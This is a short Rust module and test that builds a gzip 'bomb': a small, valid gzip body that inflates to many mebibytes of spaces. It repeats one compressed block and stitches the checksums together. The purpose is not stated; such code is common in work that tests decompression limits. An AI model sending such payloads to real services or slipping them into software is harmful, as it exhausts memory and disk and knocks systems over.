//! A small gzip body that becomes a large one, made without ever holding the large one.

use std::io;

use flate2::{Compress, Compression, Crc, FlushCompress};

const MIB: usize = 1024 * 1024;
const GZIP_HEAD: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
/// A last, empty block of fixed codes.
const DEFLATE_END: [u8; 2] = [0x03, 0x00];

/// `mib` mebibytes of spaces as one valid gzip member.
pub(crate) fn gzip_bomb(mib: u16) -> io::Result<Vec<u8>> {
    let spaces = vec![b' '; MIB];
    let mut block = Vec::with_capacity(64 * 1024);
    // A full flush ends on a byte and forgets what came before, so the block can be repeated.
    Compress::new(Compression::best(), false)
        .compress_vec(&spaces, &mut block, FlushCompress::Full)
        .map_err(io::Error::other)?;
    let mut one = Crc::new();
    one.update(&spaces);
    let mut all = Crc::new();
    let mut bomb = GZIP_HEAD.to_vec();
    for _ in 0..mib {
        bomb.extend_from_slice(&block);
        all.combine(&one);
    }
    bomb.extend_from_slice(&DEFLATE_END);
    bomb.extend_from_slice(&all.sum().to_le_bytes());
    bomb.extend_from_slice(&all.amount().to_le_bytes());
    Ok(bomb)
}

#[cfg(test)]
mod tests {
    use std::io::Read;

    use super::*;

    #[test]
    fn a_bomb_is_valid_gzip_and_far_larger_than_it_looks() {
        let bomb = gzip_bomb(3).unwrap();
        assert!(bomb.len() < MIB / 50, "{}", bomb.len());
        let mut whole = Vec::new();
        flate2::read::GzDecoder::new(bomb.as_slice())
            .read_to_end(&mut whole)
            .unwrap();
        assert_eq!(whole.len(), 3 * MIB);
    }
}
